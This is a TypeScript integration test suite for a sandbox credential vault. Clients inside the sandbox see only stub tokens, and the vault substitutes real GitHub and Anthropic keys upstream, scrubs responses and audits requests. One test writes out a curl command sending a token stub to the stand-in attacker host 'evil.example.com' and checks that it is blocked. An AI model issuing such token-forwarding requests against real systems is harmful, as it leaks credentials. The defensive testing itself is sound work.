// The vault end to end, in a real network namespace with the real egress rules: real clients (curl
// over HTTP/1.1 and HTTP/2, Node fetch and https, Python urllib, openssl s_client, a WebSocket client,
// an SSE client) run as an unprivileged uid inside the sandbox and talk to api.github.com and
// api.anthropic.com, which the vault maps to a fake upstream on the host's loopback.
import { writeFileSync, mkdtempSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestSandbox, type TestSandbox } from '../../vault/testbed.ts';
import { type FakeUpstream, startFakeUpstream } from '../support/fake-upstream.ts';
import { isRoot, warnIfSkipped } from '../support/root.ts';
import { auditEvents, setCredentials, setPolicy, waitForAudit } from '../support/vault-client.ts';

const REAL_GITHUB = 'ghp_RealGithubSecret0123456789abcdefABCD';
const REAL_ANTHROPIC = 'sk-ant-api03-RealAnthropicSecret+/=0123456789abcdefghij';
const NODE = process.execPath;

warnIfSkipped('vault interception (tests/vault/intercept.test.ts)');

describe.skipIf(!isRoot)('vault interception in a real sandbox', () => {
  let upstream: FakeUpstream;
  let sandbox: TestSandbox;
  let githubStub: string;
  let anthropicStub: string;
  let env: Record<string, string>;

  beforeAll(async () => {
    upstream = await startFakeUpstream();
    const dir = mkdtempSync(join(tmpdir(), 'lap-upstream-ca-'));
    chmodSync(dir, 0o755);
    const caFile = join(dir, 'upstream-ca.pem');
    writeFileSync(caFile, upstream.caPem, { mode: 0o644 });
    const https = `127.0.0.1:${upstream.httpsPort}`;
    sandbox = await createTestSandbox({
      vaultConfig: {
        extraCaFiles: [caFile],
        hosts: { 'api.github.com': https, 'api.anthropic.com': https, 'evil.example.com': https, 'plain.example.com': `127.0.0.1:${upstream.httpPort}` },
      },
    });
    const creds = await setCredentials(sandbox, [
      { name: 'GITHUB_TOKEN', value: REAL_GITHUB, hosts: ['api.github.com'], places: ['header', 'query', 'body'] },
      { name: 'ANTHROPIC_API_KEY', value: REAL_ANTHROPIC, hosts: ['api.anthropic.com'], places: ['header'] },
    ]);
    githubStub = creds.find((c) => c.name === 'GITHUB_TOKEN')!.stub;
    anthropicStub = creds.find((c) => c.name === 'ANTHROPIC_API_KEY')!.stub;
    await setPolicy(sandbox, { default: 'allow', allowPrivate: ['api.github.com', 'api.anthropic.com', 'evil.example.com', 'plain.example.com'] });
    env = {
      GITHUB_TOKEN: githubStub,
      ANTHROPIC_API_KEY: anthropicStub,
      SSL_CERT_FILE: sandbox.caFile,
      CURL_CA_BUNDLE: sandbox.caFile,
      NODE_EXTRA_CA_CERTS: sandbox.caFile,
      REQUESTS_CA_BUNDLE: sandbox.caFile,
    };
  });

  afterAll(async () => {
    await sandbox?.close();
    await upstream?.close();
  });

  const lastReceived = () => upstream.received.at(-1)!;

  /** Asserts that a client-visible text carries no form of a real secret. */
  function expectNoSecret(text: string) {
    for (const secret of [REAL_GITHUB, REAL_ANTHROPIC]) {
      expect(text).not.toContain(secret);
      expect(text).not.toContain(Buffer.from(secret).toString('base64').slice(0, 40));
      expect(text).not.toContain(encodeURIComponent(secret));
    }
  }

  it.each([['--http1.1', '1.1'], ['--http2', '2.0']])('curl %s: the upstream gets the real token, the sandbox only stubs', async (flag, version) => {
    const r = await sandbox.exec(['curl', '-sS', '-i', flag, 'https://api.github.com/user?access_token=' + githubStub, '-H', `Authorization: Bearer ${githubStub}`, '--data', `token=${githubStub}`], { env });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const seen = lastReceived();
    expect(seen.headers.authorization).toBe(`Bearer ${REAL_GITHUB}`);
    expect(seen.path).toBe(`/user?access_token=${REAL_GITHUB}`);
    expect(seen.body).toBe(`token=${REAL_GITHUB}`);
    expectNoSecret(r.stdout);
    expect(r.stdout).toContain(`x-echo-token: ${githubStub}`);
    const body = JSON.parse(r.stdout.slice(r.stdout.indexOf('\r\n\r\n') + 4));
    expect(body.seen_token).toBe(githubStub);
    expect(body.b64).toBe(Buffer.from(githubStub).toString('base64'));
    expect(body.basic).toBe(Buffer.from(`x-access-token:${githubStub}`).toString('base64'));
    expect(r.stdout.split('\r\n')[0]).toMatch(version === '2.0' ? /^HTTP\/2 200/ : /^HTTP\/1\.1 200/);
    const event = await waitForAudit(sandbox, (e) => e.path === '/user' && e.status === 200 && e.ms >= 0);
    expect(event.credentials).toEqual(['GITHUB_TOKEN']);
    expect(event.decision).toBe('allow');
    expect(JSON.stringify(event)).not.toContain(githubStub);
  });

  it('scrubs a gzip response and passes it on identity-encoded', async () => {
    const r = await sandbox.exec(['curl', '-sS', '-i', '--compressed', 'https://api.github.com/gzip', '-H', `Authorization: token ${githubStub}`], { env });
    expect(r.code).toBe(0);
    expect(r.stdout.toLowerCase()).not.toContain('content-encoding: gzip');
    expect(r.stdout).toContain(`"seen_token":"${githubStub}"`);
    expectNoSecret(r.stdout);
  });

  it('Node fetch and https.request trust the vault CA through NODE_EXTRA_CA_CERTS', async () => {
    const script = `
      const https = require('node:https');
      const viaFetch = await (await fetch('https://api.anthropic.com/user', { headers: { 'x-api-key': process.env.ANTHROPIC_API_KEY, authorization: 'Bearer ' + process.env.ANTHROPIC_API_KEY } })).json();
      const viaHttps = await new Promise((resolve, reject) => https.get('https://api.anthropic.com/user', { headers: { authorization: 'Bearer ' + process.env.ANTHROPIC_API_KEY } }, (res) => { let b = ''; res.on('data', (c) => b += c); res.on('end', () => resolve(JSON.parse(b))); }).on('error', reject));
      console.log(JSON.stringify({ viaFetch, viaHttps }));`;
    const r = await sandbox.exec([NODE, '--input-type=commonjs', '-e', `(async () => { ${script} })().catch((e) => { console.error(e); process.exit(1); })`], { env });
    expect(r.stderr).toBe('');
    const out = JSON.parse(r.stdout);
    expect(out.viaFetch.seen_token).toBe(anthropicStub);
    expect(out.viaHttps.seen_token).toBe(anthropicStub);
    expect(lastReceived().headers.authorization).toBe(`Bearer ${REAL_ANTHROPIC}`);
    expectNoSecret(r.stdout);
  });

  it('Bun fetch trusts the vault CA through NODE_EXTRA_CA_CERTS', async () => {
    const bun = join(process.cwd(), 'node_modules/.bin/bun');
    const script = "const r = await fetch('https://api.github.com/user', { headers: { authorization: 'Bearer ' + process.env.GITHUB_TOKEN } }); console.log(await r.text());";
    const r = await sandbox.exec([bun, '-e', script], { env: { ...env, BUN_INSTALL_CACHE_DIR: '/tmp' } });
    expect(r.stderr).toBe('');
    expect(JSON.parse(r.stdout).seen_token).toBe(githubStub);
    expect(lastReceived().headers.authorization).toBe(`Bearer ${REAL_GITHUB}`);
  });

  it('Python urllib trusts the vault CA through SSL_CERT_FILE', async () => {
    const py = "import os,urllib.request,json;r=urllib.request.Request('https://api.github.com/user',headers={'Authorization':'Bearer '+os.environ['GITHUB_TOKEN']});print(urllib.request.urlopen(r).read().decode())";
    const r = await sandbox.exec(['python3', '-c', py], { env });
    expect(r.stderr).toBe('');
    expect(JSON.parse(r.stdout).seen_token).toBe(githubStub);
    expect(lastReceived().headers.authorization).toBe(`Bearer ${REAL_GITHUB}`);
  });

  it('openssl s_client verifies the minted leaf for the SNI host', async () => {
    const r = await sandbox.exec(['openssl', 's_client', '-connect', 'api.github.com:443', '-servername', 'api.github.com', '-CAfile', sandbox.caFile, '-verify_return_error', '-brief'], { env, input: 'Q\n' });
    expect(r.stderr + r.stdout).toMatch(/Verification: OK/);
  });

  it('a WebSocket upgrade is swapped, then bytes flow both ways', async () => {
    const ws = join(process.cwd(), 'node_modules/ws/index.js');
    const script = `const WebSocket = require(${JSON.stringify(ws)});
      const s = new WebSocket('wss://api.github.com/socket', { headers: { authorization: 'Bearer ' + process.env.GITHUB_TOKEN } });
      s.on('open', () => s.send('ping'));
      s.on('message', (m) => { console.log(m.toString()); s.close(); });
      s.on('error', (e) => { console.error(e.message); process.exit(1); });`;
    const r = await sandbox.exec([NODE, '--input-type=commonjs', '-e', script], { env });
    expect(r.stderr).toBe('');
    // The upstream echoes the real header value in a frame: the sandbox must see only the stub.
    expect(r.stdout.trim()).toBe(`echo:ping|auth:Bearer ${githubStub}`);
    expect(upstream.received.some((q) => q.path === '/socket' && q.headers.authorization === `Bearer ${REAL_GITHUB}`)).toBe(true);
  });

  it('an SSE response reaches the client before the upstream has finished', async () => {
    const child = sandbox.spawn(['curl', '-sS', '-N', 'https://api.github.com/sse/held', '-H', `Authorization: Bearer ${githubStub}`], { env });
    let out = '';
    const first = new Promise<void>((resolve) => child.stdout!.on('data', (c: Buffer) => { out += c; if (out.includes('data: first')) resolve(); }));
    await first;
    expect(out).toContain(`data: first ${githubStub}`);
    expect(out).not.toContain('data: last');
    upstream.releaseSse();
    await new Promise((r) => child.on('close', r));
    expect(out).toContain('data: last');
    expectNoSecret(out);
  });

  it('blocks a stub sent to a host outside its scope, with a plain-text reason, and audits it', async () => {
    const before = upstream.received.length;
    const r = await sandbox.exec(['curl', '-sS', '-i', 'https://evil.example.com/user', '-H', `Authorization: Bearer ${githubStub}`], { env });
    expect(r.stdout).toMatch(/^HTTP\/\S+ 403/);
    expect(r.stdout).toContain('GITHUB_TOKEN');
    expect(r.stdout).toContain('evil.example.com');
    expect(upstream.received.length).toBe(before);
    const event = await waitForAudit(sandbox, (e) => e.host === 'evil.example.com');
    expect(event).toMatchObject({ decision: 'block', status: 403, credentials: ['GITHUB_TOKEN'] });
  });

  it('answers 421 when SNI and Host disagree', async () => {
    const r = await sandbox.exec(['curl', '-sS', '-i', '--http1.1', 'https://api.github.com/user', '-H', 'Host: api.anthropic.com'], { env });
    expect(r.stdout).toMatch(/^HTTP\/1\.1 421/);
  });

  it('refuses TLS without SNI', async () => {
    const r = await sandbox.exec(['openssl', 's_client', '-connect', `${sandbox.hostAddress}:443`, '-noservername', '-brief'], { env, input: 'Q\n' });
    expect(r.code).not.toBe(0);
    expect(r.stderr + r.stdout).toMatch(/unrecognized name|alert/i);
    await waitForAudit(sandbox, (e) => e.reason.includes('without SNI'));
  });

  it('never swaps a credential into plain HTTP and blocks its stub there', async () => {
    const before = upstream.received.length;
    const r = await sandbox.exec(['curl', '-sS', '-i', 'http://api.github.com/user', '-H', `Authorization: Bearer ${githubStub}`], { env });
    expect(r.stdout).toMatch(/^HTTP\/1\.1 403/);
    expect(r.stdout).toContain('GITHUB_TOKEN is never sent over plain HTTP');
    expect(upstream.received.length).toBe(before);
    const ok = await sandbox.exec(['curl', '-sS', 'http://plain.example.com/user'], { env });
    expect(JSON.parse(ok.stdout).login).toBe('octocat');
  });

  it('refuses TRACE', async () => {
    const r = await sandbox.exec(['curl', '-sS', '-i', '-X', 'TRACE', 'https://api.github.com/user'], { env });
    expect(r.stdout).toMatch(/^HTTP\/\S+ 405/);
  });

  it('logs every request as structured JSON without a secret value', async () => {
    const lines = sandbox.vaultLog();
    const entries = lines.map((line) => JSON.parse(line) as { msg: string; audit?: { host: string } });
    expect(entries.some((e) => e.msg === 'request relayed' && e.audit?.host === 'api.github.com')).toBe(true);
    expect(entries.some((e) => e.msg === 'request refused' && e.audit?.host === 'evil.example.com')).toBe(true);
    expectNoSecret(lines.join('\n'));
  });

  it('keeps every audit event free of header values, bodies and queries', async () => {
    const events = await auditEvents(sandbox);
    expect(events.length).toBeGreaterThan(5);
    const text = JSON.stringify(events);
    for (const secretOrStub of [REAL_GITHUB, REAL_ANTHROPIC, githubStub, anthropicStub, 'access_token']) expect(text).not.toContain(secretOrStub);
  });
});
